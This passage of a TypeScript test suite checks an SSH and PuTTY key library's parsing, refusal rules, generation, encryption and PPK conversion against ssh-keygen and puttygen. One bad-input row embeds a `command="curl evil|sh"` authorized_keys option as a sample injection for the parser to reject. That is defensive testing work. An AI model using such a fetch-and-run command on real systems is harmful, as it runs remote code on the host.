/**
 * core/keys.ts and core/ppk.ts: parsing, refusals, rules, generation, encryption, PPK.
 * Oracles are the real tools, not our own code: ssh-keygen (fingerprints, decryption) and
 * puttygen (reading our .ppk files).
 */
import * as assert from "assert";
import { execFileSync, spawnSync } from "child_process";
import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import {
    DEFAULT_KEY_RULES,
    GeneratedKey,
    KeyEncryptedError,
    KeyError,
    KeyInfo,
    decryptPrivateKey,
    encryptPrivateKey,
    generateKey,
    judgeKey,
    judgeKeySpec,
    keyRulesFromPolicyConfig,
    parseKey,
    parsePublicKey,
    publicKeyOf,
} from "../core/keygen";
import { sshMpint, sshString } from "../core/keys/wire";
import { PPK_ARGON2, decryptPpk, toPpk } from "../core/ppk";
import { requireReal } from "./support/env";

const FIXTURES = path.join(__dirname, "fixtures", "keys");

function tmpdir(): string {
    return fs.mkdtempSync(path.join(os.tmpdir(), "pka-keys-"));
}

/** `ssh-keygen -l -f FILE` -> "SHA256:..." */
function sshKeygenFingerprint(file: string): string {
    const out = execFileSync("ssh-keygen", ["-l", "-E", "sha256", "-f", file], { encoding: "utf8" });
    const m = /(SHA256:[A-Za-z0-9+/]+)/.exec(out);
    assert.ok(m, `ssh-keygen printed no fingerprint: ${out}`);
    return m[1];
}

function puttygenFingerprint(file: string, passFile?: string): string {
    const r = spawnSync("puttygen", [file, "-O", "fingerprint", ...(passFile ? ["--old-passphrase", passFile] : [])], {
        encoding: "utf8",
        input: "",
    });
    assert.strictEqual(r.status, 0, `puttygen failed: ${r.stderr}`);
    const m = /(SHA256:[A-Za-z0-9+/]+)/.exec(r.stdout);
    assert.ok(m, `puttygen printed no SHA256 fingerprint: ${r.stdout}`);
    return m[1];
}

function write(dir: string, name: string, content: string, mode = 0o600): string {
    const p = path.join(dir, name);
    fs.writeFileSync(p, content, { mode });
    return p;
}

/** An SSH public key line from raw blob parts, for crafting malformed keys. */
function line(type: string, parts: Buffer[], comment = "x"): string {
    return `${type} ${Buffer.concat([sshString(type), ...parts]).toString("base64")} ${comment}`;
}

function b64blob(publicLine: string): Buffer {
    return Buffer.from(publicLine.split(" ")[1], "base64");
}

/** Collects uncaught exceptions and unhandled rejections while a block of tests runs. */
function watchUncaught(): { errors: unknown[]; stop: () => void } {
    const errors: unknown[] = [];
    const onErr = (e: unknown) => errors.push(e);
    process.on("uncaughtException", onErr);
    process.on("unhandledRejection", onErr);
    return {
        errors,
        stop: () => {
            process.removeListener("uncaughtException", onErr);
            process.removeListener("unhandledRejection", onErr);
        },
    };
}

const settle = () => new Promise((r) => setTimeout(r, 100));

// Keys made once for the whole file (RSA generation is the slow part).
let ed: GeneratedKey;
let ec256: GeneratedKey;
let rsa3072: GeneratedKey;

before(function () {
    ed = generateKey({ type: "ed25519", comment: "alice@laptop" });
    ec256 = generateKey({ type: "ecdsa", curve: "nistp256", comment: "ec" });
    rsa3072 = generateKey({ type: "rsa", bits: 3072, comment: "rsa" });
});

describe("keys: refusing bad input", function () {
    const pem = (type: "rsa" | "ec" | "dsa", o: object) =>
        crypto.generateKeyPairSync(type as "rsa", o as crypto.RSAKeyPairOptions<"pem", "pem">);

    interface Row {
        name: string;
        input: () => unknown;
        /** "parse": parseKey/parsePublicKey throws KeyError. "judge": parses, and the rules refuse it. */
        stage: "parse" | "judge";
        fn?: "public" | "any";
        passphrase?: string;
        ctx?: { ec2Import?: boolean; service?: boolean };
        expect: RegExp;
    }

    const edLine = () => ed.publicKey;
    const edBlob = () => b64blob(ed.publicKey);
    const rsaPem1024 = () =>
        crypto.generateKeyPairSync("rsa", {
            modulusLength: 1024,
            publicKeyEncoding: { type: "spki", format: "pem" },
            privateKeyEncoding: { type: "pkcs1", format: "pem" },
        });

    const rows: Row[] = [
        { name: "empty string", input: () => "", stage: "parse", fn: "public", expect: /is empty.*expected/ },
        { name: "whitespace only", input: () => "  \t \n", stage: "parse", fn: "any", expect: /empty|expected/ },
        { name: "type without data", input: () => "ssh-ed25519", stage: "parse", fn: "public", expect: /no key data/ },
        {
            name: "truncated base64 (length not a multiple of 4)",
            input: () =>
                edLine()
                    .replace(/ alice@laptop$/, "")
                    .slice(0, -5),
            stage: "parse",
            fn: "public",
            expect: /not valid base64.*truncated/,
        },
        {
            name: "truncated base64 (whole quads cut: blob ends early)",
            input: () => `ssh-ed25519 ${edBlob().subarray(0, 36).toString("base64")}`,
            stage: "parse",
            fn: "public",
            expect: /truncated or corrupt|expected 32/,
        },
        {
            name: "base64 with foreign characters",
            input: () => "ssh-ed25519 AAAA$$$$****",
            stage: "parse",
            fn: "public",
            expect: /not valid base64/,
        },
        {
            name: "type prefix mismatch (ssh-rsa label on an ed25519 blob)",
            input: () => edLine().replace(/^ssh-ed25519/, "ssh-rsa"),
            stage: "parse",
            fn: "public",
            expect: /type prefix mismatch/,
        },
        {
            name: "type prefix mismatch (ecdsa label on an rsa blob)",
            input: () => rsa3072.publicKey.replace(/^ssh-rsa/, "ecdsa-sha2-nistp256"),
            stage: "parse",
            fn: "public",
            expect: /type prefix mismatch/,
        },
        {
            name: "unknown key type",
            input: () => line("ssh-foo", [sshString(Buffer.alloc(32))]).replace(/^ssh-foo/, "ssh-foo"),
            stage: "parse",
            fn: "public",
            expect: /'ssh-foo' is not supported; expected ssh-ed25519/,
        },
        {
            name: "base64 without a type",
            input: () => edLine().split(" ")[1],
            stage: "parse",
            fn: "public",
            expect: /no key type/,
        },
        {
            name: "option injection: command=",
            input: () => `command="curl evil|sh" ${edLine()}`,
            stage: "parse",
            fn: "public",
            expect: /authorized_keys options \('command'.*belong in keyOptions/,
        },
        {
            name: "option injection: restrict,from=",
            input: () => `restrict,from="10.0.0.0/8" ${edLine()}`,
            stage: "parse",
            fn: "public",
            expect: /options \('restrict'.*keyOptions/,
        },
        {
            name: "option injection: no-pty before ssh-rsa",
            input: () => `no-pty ${rsa3072.publicKey}`,
            stage: "parse",
            fn: "public",
            expect: /options.*keyOptions/,
        },
        {
            name: "embedded newline (two keys)",
            input: () => `${edLine()}\n${ec256.publicKey}`,
            stage: "parse",
            fn: "public",
            expect: /line break/,
        },
        {
            name: "embedded newline (any format: two lines)",
            input: () => `${edLine()}\n${ec256.publicKey}\n`,
            stage: "parse",
            fn: "any",
            expect: /holds 2 lines; expected a single key/,
        },
        {
            name: "carriage return inside the line",
            input: () => edLine().replace(" alice", "\ralice"),
            stage: "parse",
            fn: "public",
            expect: /carriage return/,
        },
        {
            name: "NUL byte in the comment",
            input: () => `${edLine()}\u0000rm`,
            stage: "parse",
            fn: "public",
            expect: /control characters/,
        },
        {
            name: "OpenSSH private key where a public key is expected",
            input: () => ed.privateKey,
            stage: "parse",
            fn: "public",
            expect: /PRIVATE key; give its public key/,
        },
        {
            name: "PEM private key where a public key is expected",
            input: () => rsaPem1024().privateKey,
            stage: "parse",
            fn: "public",
            expect: /PRIVATE key/,
        },
        {
            name: "PuTTY key where a public key is expected",
            input: () => edPpk,
            stage: "parse",
            fn: "public",
            expect: /PRIVATE key/,
        },
        {
            name: "100 KB of junk",
            input: () => crypto.randomBytes(75 * 1024).toString("base64"),
            stage: "parse",
            fn: "any",
            expect: /more than any SSH key file/,
        },
        {
            name: "100 KB line with a valid type prefix",
            input: () => `ssh-rsa ${"A".repeat(100 * 1024)}`,
            stage: "parse",
            fn: "public",
            expect: /more than a public key line can be/,
        },
        {
            name: "1 MB binary Buffer",
            input: () => crypto.randomBytes(1024 * 1024),
            stage: "parse",
            fn: "any",
            expect: /more than any SSH key file/,
        },
        {
            name: "small binary garbage",
            input: () => Buffer.from([0x30, 0x82, 0x01, 0x00, 0xff, 0x00, 0x13]),
            stage: "parse",
            fn: "any",
            expect: /binary data/,
        },
        { name: "not a string at all", input: () => 42, stage: "parse", fn: "public", expect: /must be a string/ },
        {
            name: "OpenSSH certificate instead of a key",
            input: () =>
                line("ssh-ed25519-cert-v01@openssh.com", [
                    sshString(crypto.randomBytes(32)),
                    sshString(Buffer.alloc(32)),
                ]),
            stage: "parse",
            fn: "public",
            expect: /certificate.*give the plain public key/,
        },
        {
            name: "ecdsa point of the wrong length",
            input: () =>
                line("ecdsa-sha2-nistp256", [
                    sshString("nistp256"),
                    sshString(Buffer.concat([Buffer.from([4]), crypto.randomBytes(40)])),
                ]),
            stage: "parse",
            fn: "public",
            expect: /point is malformed/,
        },
        {
            name: "ecdsa point not on the curve",
            input: () =>
                line("ecdsa-sha2-nistp256", [
                    sshString("nistp256"),
                    sshString(Buffer.concat([Buffer.from([4]), Buffer.alloc(64, 1)])),
                ]),
            stage: "parse",
            fn: "public",
            expect: /not on the curve/,
        },
        {
            name: "ecdsa blob naming another curve",
            input: () => {
                const b = b64blob(ec256.publicKey);
                return `ecdsa-sha2-nistp384 ${Buffer.concat([sshString("ecdsa-sha2-nistp384"), b.subarray(4 + 19)]).toString("base64")}`;
            },
            stage: "parse",
            fn: "public",
            expect: /names curve 'nistp256' but its type is ecdsa-sha2-nistp384/,
        },
        {
            name: "trailing bytes after the key",
            input: () => `ssh-ed25519 ${Buffer.concat([edBlob(), Buffer.from("junk")]).toString("base64")}`,
            stage: "parse",
            fn: "public",
            expect: /unexpected bytes after the key/,
        },
        {
            name: "RSA with an even modulus",
            input: () => line("ssh-rsa", [sshMpint(Buffer.from([1, 0, 1])), sshMpint(Buffer.alloc(256, 0x42))]),
            stage: "parse",
            fn: "public",
            expect: /RSA modulus is invalid/,
        },
        {
            name: "PEM certificate block",
            input: () => "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
            stage: "parse",
            fn: "any",
            expect: /'CERTIFICATE' block, not a key/,
        },
        {
            name: "encrypted OpenSSH key, wrong passphrase",
            input: () => encryptPrivateKey(ed.privateKey, "right horse"),
            passphrase: "wrong horse",
            stage: "parse",
            fn: "any",
            expect: /passphrase is wrong/,
        },
        {
            name: "encrypted PEM (PKCS#1) key, wrong passphrase (sshpk leaks an uncaught error here)",
            input: () =>
                crypto.generateKeyPairSync("rsa", {
                    modulusLength: 1024,
                    publicKeyEncoding: { type: "spki", format: "pem" },
                    privateKeyEncoding: { type: "pkcs1", format: "pem", cipher: "aes-128-cbc", passphrase: "right" },
                }).privateKey,
            passphrase: "wrong",
            stage: "parse",
            fn: "any",
            expect: /passphrase is wrong/,
        },
        {
            name: "encrypted PKCS#8 key, wrong passphrase",
            input: () =>
                crypto.generateKeyPairSync("ec", {
                    namedCurve: "P-256",
                    publicKeyEncoding: { type: "spki", format: "pem" },
                    privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" },
                }).privateKey,
            passphrase: "wrong",
            stage: "parse",
            fn: "any",
            expect: /passphrase is wrong/,
        },
        {
            name: "encrypted PKCS#8 key without a passphrase",
            input: () =>
                crypto.generateKeyPairSync("ec", {
                    namedCurve: "P-256",
                    publicKeyEncoding: { type: "spki", format: "pem" },
                    privateKeyEncoding: { type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "right" },
                }).privateKey,
            stage: "parse",
            fn: "any",
            expect: /encrypted PKCS#8 private key.*give the passphrase/,
        },
        {
            name: "EC key on a curve SSH does not use (secp256k1)",
            input: () =>
                pem("ec", {
                    namedCurve: "secp256k1",
                    publicKeyEncoding: { type: "spki", format: "pem" },
                    privateKeyEncoding: { type: "pkcs8", format: "pem" },
                }).publicKey,
            stage: "parse",
            fn: "any",
            expect: /curve 'secp256k1'.*expected ecdsa nistp256/,
        },
        // Keys that parse but the rules refuse:
        {
            name: "dsa",
            input: () => fs.readFileSync(path.join(FIXTURES, "dsa.pub"), "utf8"),
            stage: "judge",
            fn: "public",
            expect: /dsa keys are not allowed \(DSA .*removed from OpenSSH 10\.0\); expected ed25519, ecdsa/,
        },
        {
            name: "rsa1 (SSH protocol 1)",
            input: () => fs.readFileSync(path.join(FIXTURES, "rsa1.pub"), "utf8"),
            stage: "judge",
            fn: "public",
            expect: /rsa1 keys are not allowed/,
        },
        {
            name: "rsa-1024",
            input: () => rsaPem1024().publicKey,
            stage: "judge",
            fn: "any",
            expect: /rsa-1024 is too small.*at least 3072/,
        },
        {
            name: "rsa-2048",
            input: () => fs.readFileSync(path.join(FIXTURES, "rsa2048.pub"), "utf8"),
            stage: "judge",
            fn: "public",
            expect: /rsa-2048 is too small.*expected ed25519, ecdsa \(nistp256, nistp384, nistp521\), rsa of at least 3072 bits or a security key \(sk-ed25519, sk-ecdsa\)\.$/,
        },
        {
            name: "ecdsa P-224 (PEM)",
            input: () =>
                pem("ec", {
                    namedCurve: "secp224r1",
                    publicKeyEncoding: { type: "spki", format: "pem" },
                    privateKeyEncoding: { type: "pkcs8", format: "pem" },
                }).publicKey,
            stage: "judge",
            fn: "any",
            expect: /ecdsa curve nistp224 is not allowed/,
        },
        {
            name: "ecdsa P-224 (OpenSSH line)",
            input: () => fs.readFileSync(path.join(FIXTURES, "p224.pub"), "utf8"),
            stage: "judge",
            fn: "public",
            expect: /ecdsa curve nistp224 is not allowed/,
        },
        {
            name: "unencrypted private key of a person",
            input: () => ed.privateKey,
            stage: "judge",
            fn: "any",
            expect: /no passphrase; a person's private key must be passphrase-protected/,
        },
        {
            name: "ecdsa for EC2 import",
            input: () => ec256.publicKey,
            stage: "judge",
            fn: "public",
            ctx: { ec2Import: true },
            expect: /EC2 can import only rsa and ed25519 keys, not ecdsa nistp256; expected ed25519 or rsa of exactly 4096 bits/,
        },
        {
            name: "rsa-3072 for EC2 import",
            input: () => rsa3072.publicKey,
            stage: "judge",
            fn: "public",
            ctx: { ec2Import: true },
            expect: /rsa-3072 is not allowed for EC2 import.*exactly 4096/,
        },
    ];

    let watch: ReturnType<typeof watchUncaught>;
    let edPpk: string;
    before(async () => {
        watch = watchUncaught();
        edPpk = await toPpk(ed.privateKey);
    });
    after(() => watch.stop());

    it("has at least 25 bad inputs", () => assert.ok(rows.length >= 25, `${rows.length} rows`));

    rows.forEach((row, i) => {
        it(`refuses ${row.name}`, function () {
            const label = `bad[${i}]`;
            const input = row.input();
            const parse = (): KeyInfo =>
                row.fn === "public"
                    ? parsePublicKey(input as string, label)
                    : parseKey(input as string, { label, passphrase: row.passphrase });
            if (row.stage === "parse") {
                assert.throws(parse, (e: unknown) => {
                    assert.ok(e instanceof KeyError, `expected a KeyError, got ${String(e)}`);
                    assert.strictEqual(e.input, label);
                    assert.ok(e.message.startsWith(`${label}: `), `message must name the input: ${e.message}`);
                    assert.match(e.message, row.expect);
                    // Never echo key material back (the input could be a private key).
                    if (typeof input === "string" && input.length > 40)
                        assert.ok(!e.message.includes(input.slice(12, 52)), "message echoes the input");
                    return true;
                });
            } else {
                const info = parse();
                const v = judgeKey(info, undefined, { label, ...row.ctx });
                assert.ok(v.length > 0, `the rules allowed ${row.name}`);
                for (const m of v) assert.ok(m.startsWith(`${label}: `), `violation must name the input: ${m}`);
                assert.match(v.join("\n"), row.expect);
            }
        });
    });

    it("left no uncaught exception or unhandled rejection behind", async () => {
        await settle();
        assert.deepStrictEqual(watch.errors.map(String), []);
    });
});

describe("keys: mutated keys never crash the parser", function () {
    // A small deterministic fuzz: every corruption of a valid key is either still a key or a
    // KeyError; a TypeError/RangeError from deep inside would be a crash for the CLI and policy pack.
    it("2000 seeded mutations of keys in every format: a KeyInfo or a KeyError, nothing else", async function () {
        let seed = 0x2545f491;
        const rnd = (n: number) => {
            seed ^= seed << 13;
            seed ^= seed >>> 17;
            seed ^= seed << 5;
            return (seed >>> 0) % n;
        };
        const pem = crypto
            .generateKeyPairSync("rsa", { modulusLength: 1024 })
            .privateKey.export({ type: "pkcs1", format: "pem" }) as string;
        const p8 = crypto
            .generateKeyPairSync("ec", { namedCurve: "P-384" })
            .privateKey.export({ type: "pkcs8", format: "pem" }) as string;
        const inputs = [
            ed.publicKey,
            ec256.publicKey,
            rsa3072.publicKey,
            ed.privateKey,
            ec256.privateKey,
            rsa3072.privateKey,
            pem,
            p8,
            await toPpk(ec256.privateKey),
        ];
        const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/= \n-:";
        const crashes: string[] = [];
        let refused = 0;
        for (let i = 0; i < 2000; i++) {
            const src = inputs[rnd(inputs.length)];
            let s: string;
            switch (rnd(3)) {
                case 0: {
                    const a = src.split("");
                    a[rnd(a.length)] = alphabet[rnd(alphabet.length)];
                    s = a.join("");
                    break;
                }
                case 1:
                    s = src.slice(0, rnd(src.length));
                    break;
                default: {
                    const p = rnd(src.length);
                    s = src.slice(0, p) + src.slice(p + 1 + rnd(20));
                }
            }
            for (const fn of [() => parseKey(s, { label: "fuzz" }), () => parsePublicKey(s, "fuzz")]) {
                try {
                    fn();
                } catch (e) {
                    if (e instanceof KeyError) refused++;
                    else crashes.push(`${String(e)} on ${JSON.stringify(s.slice(0, 80))}`);
                }
            }
        }
        assert.deepStrictEqual(crashes.slice(0, 5), []);
        assert.ok(refused > 2000, `only ${refused} refusals: the mutations did not bite`);
    });
});

describe("keys: parsing what real tools write", function () {
    let dir: string;
    before(function () {
        requireReal(this, { commands: ["ssh-keygen"] });
        dir = tmpdir();
    });
    after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));

    const kinds: { t: string; b?: string }[] = [
        { t: "ed25519" },
        { t: "ecdsa", b: "256" },
        { t: "ecdsa", b: "384" },
        { t: "ecdsa", b: "521" },
        { t: "rsa", b: "3072" },
    ];
    for (const k of kinds) {
        it(`reads ssh-keygen's ${k.t}${k.b ? "-" + k.b : ""} in every format it writes, with its fingerprint`, function () {
            const f = path.join(dir, `${k.t}${k.b ?? ""}`);
            execFileSync("ssh-keygen", ["-q", "-t", k.t, ...(k.b ? ["-b", k.b] : []), "-N", "", "-C", "c@h", "-f", f]);
            const want = sshKeygenFingerprint(f);
            const pub = parseKey(fs.readFileSync(`${f}.pub`, "utf8"));
            assert.strictEqual(pub.fingerprint, want);
            assert.strictEqual(pub.comment, "c@h");
            assert.strictEqual(pub.type, k.t);
            if (k.t === "rsa") assert.strictEqual(pub.bits, Number(k.b));
            if (k.t === "ecdsa") assert.strictEqual(pub.curve, `nistp${k.b}`);
            // RFC 4716 public export reads the same.
            const rfc = execFileSync("ssh-keygen", ["-e", "-f", `${f}.pub`], { encoding: "utf8" });
            assert.strictEqual(parseKey(rfc).fingerprint, want);
            // ssh-keygen writes ed25519 private keys only in its own format.
            for (const fmt of k.t === "ed25519" ? ["RFC4716"] : ["RFC4716", "PEM", "PKCS8"]) {
                if (fmt !== "RFC4716") execFileSync("ssh-keygen", ["-q", "-p", "-m", fmt, "-P", "", "-N", "", "-f", f]);
                const priv = parseKey(fs.readFileSync(f));
                assert.strictEqual(priv.fingerprint, want, fmt);
                assert.strictEqual(priv.isPrivate, true);
                assert.strictEqual(priv.encrypted, false);
                assert.strictEqual(priv.format, fmt === "RFC4716" ? "openssh" : fmt === "PEM" ? "pem" : "pkcs8");
                assert.strictEqual(priv.type, k.t);
                assert.strictEqual(
                    priv.publicKey.split(" ").slice(0, 2).join(" "),
                    pub.publicKey.split(" ").slice(0, 2).join(" "),
                );
            }
        });
    }

    it("reads ssh-keygen's encrypted key without the passphrase, checks it when given", function () {
        const f = path.join(dir, "enc");
        execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "open sesame", "-C", "enc@h", "-f", f]);
        const text = fs.readFileSync(f, "utf8");
        const info = parseKey(text);
        assert.strictEqual(info.encrypted, true);
        assert.strictEqual(info.fingerprint, sshKeygenFingerprint(`${f}.pub`));
        assert.strictEqual(parseKey(text, { passphrase: "open sesame" }).comment, "enc@h");
        assert.throws(
            () => parseKey(text, { passphrase: "close sesame", label: "enc" }),
            /enc: the passphrase is wrong/,
        );
        assert.deepStrictEqual(judgeKey(info), []);
    });

    it("reads an encrypted PEM key only with its passphrase (KeyEncryptedError without)", function () {
        const f = path.join(dir, "encpem");
        execFileSync("ssh-keygen", ["-q", "-t", "rsa", "-b", "3072", "-m", "PEM", "-N", "pem pass", "-f", f]);
        const text = fs.readFileSync(f, "utf8");
        assert.throws(
            () => parseKey(text, { label: "encpem" }),
            (e: unknown) => e instanceof KeyEncryptedError && /encpem: is an encrypted PEM/.test(e.message),
        );
        const info = parseKey(text, { passphrase: "pem pass" });
        assert.strictEqual(info.fingerprint, sshKeygenFingerprint(`${f}.pub`));
        assert.strictEqual(info.encrypted, true);
        assert.strictEqual(
            publicKeyOf(text, "pem pass").split(" ")[1],
            fs.readFileSync(`${f}.pub`, "utf8").split(" ")[1],
        );
    });
});

describe("keys: generation, encryption and fingerprints against ssh-keygen", function () {
    let dir: string;
    before(function () {
        requireReal(this, { commands: ["ssh-keygen"] });
        dir = tmpdir();
    });
    after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));

    const specs = [
        { type: "ed25519" as const },
        { type: "ecdsa" as const, curve: "nistp256" },
        { type: "ecdsa" as const, curve: "nistp384" },
        { type: "ecdsa" as const, curve: "nistp521" },
        { type: "rsa" as const, bits: 3072 },
        { type: "rsa" as const, bits: 4096 },
    ];
    for (const spec of specs) {
        const name = `${spec.type}${"curve" in spec ? "-" + spec.curve : ""}${"bits" in spec ? "-" + spec.bits : ""}`;
        it(`generates ${name}: ssh-keygen agrees on fingerprint and public key${["ed25519", "ecdsa-nistp384", "rsa-3072"].includes(name) ? ", decrypts it, refuses a wrong passphrase" : ""}`, function () {
            const g = name === "rsa-3072" ? rsa3072 : generateKey({ ...spec, comment: `gen ${name}` });
            assert.strictEqual(g.type, spec.type);
            if ("bits" in spec) assert.strictEqual(g.bits, spec.bits);
            if ("curve" in spec) assert.strictEqual(g.curve, spec.curve);
            const priv = write(dir, name, g.privateKey);
            const pub = write(dir, `${name}.pub`, g.publicKey + "\n", 0o644);
            assert.strictEqual(sshKeygenFingerprint(priv), g.fingerprint);
            assert.strictEqual(sshKeygenFingerprint(pub), g.fingerprint);
            const derived = execFileSync("ssh-keygen", ["-y", "-f", priv], { encoding: "utf8" }).trim();
            assert.strictEqual(derived.split(" ").slice(0, 2).join(" "), g.publicKey.split(" ").slice(0, 2).join(" "));
            assert.strictEqual(publicKeyOf(g.privateKey), g.publicKey);
            assert.deepStrictEqual(judgeKeySpec(g), []);
            assert.deepStrictEqual(judgeKey(parsePublicKey(g.publicKey)), []);

            // Encryption is the same code for every type and costs ~1 s of bcrypt: check it on three.
            if (!["ed25519", "ecdsa-nistp384", "rsa-3072"].includes(name)) return;
            const enc = write(dir, `${name}.enc`, encryptPrivateKey(g.privateKey, "s3cret phrase"));
            const encText = fs.readFileSync(enc, "utf8");
            assert.ok(
                !encText.includes(g.privateKey.split("\n")[3]),
                "encrypted output must not contain the plain key",
            );
            const ok = spawnSync("ssh-keygen", ["-y", "-P", "s3cret phrase", "-f", enc], { encoding: "utf8" });
            assert.strictEqual(ok.status, 0, ok.stderr);
            assert.strictEqual(
                ok.stdout.trim().split(" ").slice(0, 2).join(" "),
                g.publicKey.split(" ").slice(0, 2).join(" "),
            );
            const bad = spawnSync("ssh-keygen", ["-y", "-P", "wrong phrase", "-f", enc], { encoding: "utf8" });
            assert.notStrictEqual(bad.status, 0, "ssh-keygen accepted a wrong passphrase");
            // aes256-ctr with bcrypt, the one cipher puttygen also reads.
            const info = parseKey(encText);
            assert.strictEqual(info.encrypted, true);
            assert.strictEqual(info.fingerprint, g.fingerprint);
            assert.ok(
                Buffer.from(encText.split("\n").slice(1, -2).join(""), "base64").includes(Buffer.from("aes256-ctr")),
            );
            const plain = parseKey(decryptPrivateKey(encText, "s3cret phrase"));
            assert.strictEqual(plain.fingerprint, g.fingerprint);
            assert.strictEqual(plain.encrypted, false);
        });
    }

    it("refuses bad generation options with the option named", () => {
        assert.throws(
            () => generateKey({ type: "rsa", bits: 2048 }),
            /bits: rsa keys are generated with 3072 or 4096 bits; got 2048/,
        );
        assert.throws(
            () => generateKey({ type: "ecdsa", curve: "nistp224" }),
            /curve: expected nistp256, nistp384 or nistp521/,
        );
        assert.throws(() => generateKey({ type: "dsa" as "rsa" }), /type: expected ed25519, ecdsa or rsa/);
        assert.throws(() => generateKey({ type: "ed25519", comment: "a\nb" }), /comment/);
        assert.throws(() => encryptPrivateKey(ed.privateKey, ""), /passphrase: must be a non-empty string/);
    });
});

describe("keys: PuTTY PPK v3", function () {
    let dir: string;
    let passFile: string;
    before(function () {
        requireReal(this, { commands: ["puttygen", "ssh-keygen"] });
        dir = tmpdir();
        passFile = write(dir, "pass", "ppk pass phrase\n");
    });
    after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));

    for (const which of ["ed25519", "ecdsa-nistp384", "rsa-3072"]) {
        it(`puttygen reads our unencrypted ${which} .ppk with the same fingerprint and converts it back`, async function () {
            const g =
                which === "ed25519"
                    ? ed
                    : which === "rsa-3072"
                      ? rsa3072
                      : generateKey({ type: "ecdsa", curve: "nistp384", comment: "ec384" });
            const ppk = await toPpk(g.privateKey);
            assert.match(ppk, /^PuTTY-User-Key-File-3: /);
            assert.match(ppk, /\nEncryption: none\n/);
            const f = write(dir, `${which}.ppk`, ppk);
            assert.strictEqual(puttygenFingerprint(f), g.fingerprint);
            const out = path.join(dir, `${which}.from-ppk`);
            const r = spawnSync("puttygen", [f, "-O", "private-openssh-new", "-o", out], {
                encoding: "utf8",
                input: "",
            });
            assert.strictEqual(r.status, 0, r.stderr);
            assert.strictEqual(sshKeygenFingerprint(out), g.fingerprint);
            assert.strictEqual(parseKey(ppk).fingerprint, g.fingerprint);
            assert.strictEqual(parseKey(await decryptPpk(ppk)).fingerprint, g.fingerprint);
        });
    }

    it("puttygen reads our passphrase-protected .ppk (Argon2id, aes256-cbc) and refuses a wrong passphrase", async function () {
        const ppk = await toPpk(rsa3072.privateKey, { passphrase: "ppk pass phrase", comment: "win user" });
        assert.match(ppk, /\nEncryption: aes256-cbc\nComment: win user\n/);
        assert.match(
            ppk,
            new RegExp(
                `\\nKey-Derivation: Argon2id\\nArgon2-Memory: ${PPK_ARGON2.memory}\\nArgon2-Passes: ${PPK_ARGON2.passes}\\nArgon2-Parallelism: 1\\nArgon2-Salt: [0-9a-f]{32}\\n`,
            ),
        );
        const f = write(dir, "enc.ppk", ppk);
        assert.strictEqual(puttygenFingerprint(f, passFile), rsa3072.fingerprint);
        const wrong = write(dir, "wrong", "not it\n");
        const r = spawnSync(
            "puttygen",
            [f, "-O", "private-openssh", "-o", path.join(dir, "never"), "--old-passphrase", wrong],
            { encoding: "utf8", input: "" },
        );
        assert.notStrictEqual(r.status, 0, "puttygen accepted a wrong passphrase");
        assert.ok(!fs.existsSync(path.join(dir, "never")));
        // Convert back through puttygen (dropping the passphrase) and compare with ssh-keygen.
        const empty = write(dir, "empty", "");
        const out = path.join(dir, "enc.from-ppk");
        const back = spawnSync(
            "puttygen",
            [f, "-O", "private-openssh-new", "-o", out, "--old-passphrase", passFile, "--new-passphrase", empty],
            { encoding: "utf8", input: "" },
        );
        assert.strictEqual(back.status, 0, back.stderr);
        assert.strictEqual(sshKeygenFingerprint(out), rsa3072.fingerprint);
        // Our reader: public part without the passphrase, the key with it, a KeyError with a wrong one.
        const info = parseKey(ppk);
        assert.strictEqual(info.encrypted, true);
        assert.strictEqual(info.fingerprint, rsa3072.fingerprint);
        assert.strictEqual(parseKey(await decryptPpk(ppk, "ppk pass phrase")).fingerprint, rsa3072.fingerprint);
        await assert.rejects(
            decryptPpk(ppk, "wrong", "enc.ppk"),
            (e: unknown) => e instanceof KeyError && /enc.ppk: the passphrase is wrong/.test(e.message),
        );
    });

    it("converts an encrypted OpenSSH key to an encrypted .ppk with the same passphrase", async function () {
        const enc = encryptPrivateKey(ec256.privateKey, "ppk pass phrase");
        const f = write(dir, "fromenc.ppk", await toPpk(enc, { passphrase: "ppk pass phrase" }));
        assert.strictEqual(puttygenFingerprint(f, passFile), ec256.fingerprint);
        await assert.rejects(toPpk(enc), /encrypted; give its passphrase/);
    });

    it("reads keys puttygen writes (v3 and v2, with and without passphrase)", async function () {
        for (const [version, pass] of [
            ["3", false],
            ["3", true],
            ["2", false],
            ["2", true],
        ] as const) {
            const f = path.join(dir, `pg-${version}-${pass}.ppk`);
            const empty = write(dir, "empty", "");
            const r = spawnSync(
                "puttygen",
                [
                    "-t",
                    "ecdsa",
                    "-b",
                    "256",
                    "-C",
                    "pg",
                    "-o",
                    f,
                    "--new-passphrase",
                    pass ? passFile : empty,
                    "--ppk-param",
                    `version=${version}`,
                ],
                { encoding: "utf8", input: "" },
            );
            assert.strictEqual(r.status, 0, r.stderr);
            const want = puttygenFingerprint(f, pass ? passFile : undefined);
            const text = fs.readFileSync(f, "utf8");
            assert.strictEqual(parseKey(text).fingerprint, want);
            assert.strictEqual(parseKey(text).encrypted, pass);
            const openssh = await decryptPpk(text, pass ? "ppk pass phrase" : undefined);
            assert.strictEqual(parseKey(openssh).fingerprint, want);
            assert.strictEqual(parseKey(openssh).comment, "pg");
            if (pass) {
                await assert.rejects(decryptPpk(text, "nope"), /passphrase is wrong/);
                if (version === "2") assert.throws(() => parseKey(text, { passphrase: "nope" }), /passphrase is wrong/);
            }
        }
    });

    it("refuses an edited .ppk (MAC check)", async () => {
        const ppk = await toPpk(ed.privateKey, { comment: "original" });
        const edited = ppk.replace("Comment: original", "Comment: edited!");
        assert.throws(() => parseKey(edited, { label: "edited.ppk" }), /edited.ppk: fails its PuTTY MAC check/);
        await assert.rejects(decryptPpk(edited), /MAC check/);
    });
});

describe("keys: rules and configuration", function () {
    it("allows the defaults: ed25519, ecdsa p256/384/521, rsa >= 3072", () => {
        for (const s of [
            { type: "ed25519" },
            { type: "ecdsa", curve: "nistp256" },
            { type: "ecdsa", curve: "P-384" },
            { type: "ecdsa", curve: "secp521r1" },
            { type: "rsa", bits: 3072 },
